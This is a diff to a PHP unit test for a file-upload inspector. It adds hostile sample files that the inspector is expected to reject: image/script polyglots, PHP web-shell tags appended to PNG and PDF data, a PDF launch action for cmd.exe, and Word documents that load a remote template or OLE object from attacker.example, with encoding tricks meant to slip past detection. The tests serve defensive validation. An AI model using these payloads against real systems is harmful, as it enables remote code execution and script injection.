@@ -70,6 +70,13 @@ final class FileInspectorTest extends TestCase {
 			Crafted::pdf( str_repeat( '% ', 600 ) . "\n(How to write <script> tags)" ),
 		];
 		yield 'a text document' => [ 'cv.docx', Crafted::docx() ];
+		yield 'FIELD-450 a text document with a link' => [
+			'cv.docx',
+			Crafted::docx( [
+				'word/_rels/document.xml.rels' => '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="Normal.dotm"/></Relationships>',
+			] ),
+		];
+		yield 'FIELD-450 a moving image with an empty end' => [ 'a.gif', Crafted::gif() . "\0\n" ];
 		yield 'an OpenDocument text' => [ 'cv.odt', Crafted::odt() ];
 		yield 'plain text' => [ 'notes.txt', "Hello\r\n\tJo\n" ];
 		yield 'text of an older code page' => [ 'notes.txt', "Caf\xE9\n" ];
@@ -167,6 +174,63 @@ final class FileInspectorTest extends TestCase {
 		yield 'a list that lies about its place' => [
 			'a.docx',
 			'PK' . substr( Crafted::docx(), 2 ) . 'x',
+			FileFlaw::Content,
+		];
+		yield 'FIELD-450 a moving image with more behind it' => [
+			'a.gif',
+			Crafted::gif() . '*/=1;alert(1)',
+			FileFlaw::Content,
+		];
+		yield 'FIELD-450 a script that begins as an image' => [
+			'a.gif',
+			"GIF89a/*\x2a\x00\x00\x00\x00*/=alert(document.domain);;",
+			FileFlaw::Content,
+		];
+		yield 'FIELD-450 an image with the shortest of tags' => [
+			'a.png',
+			Crafted::png() . '<? system($_GET[0]); ?>',
+			FileFlaw::Content,
+		];
+		yield 'FIELD-450 a PDF with the shortest of tags' => [
+			'a.pdf',
+			Crafted::pdf( '<?=system($_GET[0])?>' ),
+			FileFlaw::Content,
+		];
+		yield 'FIELD-450 a PDF that runs a program' => [
+			'a.pdf',
+			Crafted::pdf( '<</S/L#61unch/F(cmd.exe)>>' ),
+			FileFlaw::Content,
+		];
+		$relation = static fn ( string $type ): string => '<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+			. $type . '" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>';
+		yield 'FIELD-450 a document with a template elsewhere' => [
+			'a.docx',
+			Crafted::docx( [ 'word/_rels/settings.xml.rels' => $relation( 'attachedTemplate' ) ] ),
+			FileFlaw::Content,
+		];
+		yield 'FIELD-450 a template elsewhere, in two bytes a letter' => [
+			'a.docx',
+			Crafted::docx( [
+				'word/_rels/settings.xml.rels' => "\xFF\xFE"
+					. implode( "\0", str_split( $relation( 'attachedTemplate' ) ) )
+					. "\0",
+			] ),
+			FileFlaw::Content,
+		];
+		yield 'FIELD-450 a template elsewhere, behind a bracket and by numbers' => [
+			'a.docx',
+			Crafted::docx( [
+				'word/_rels/settings.xml.rels' => str_replace(
+					[ 'Id="r1"', 'attachedTemplate' ],
+					[ 'Id="r>1"', 'attached&#x54;emplate' ],
+					$relation( 'attachedTemplate' )
+				),
+			] ),
+			FileFlaw::Content,
+		];
+		yield 'FIELD-450 an object elsewhere' => [
+			'a.docx',
+			Crafted::docx( [ 'word/_rels/document.xml.rels' => $relation( 'oleObject' ) ] ),
 			FileFlaw::Content,
 		];
 		yield 'nothing' => [ 'a.png', '', FileFlaw::Empty ];
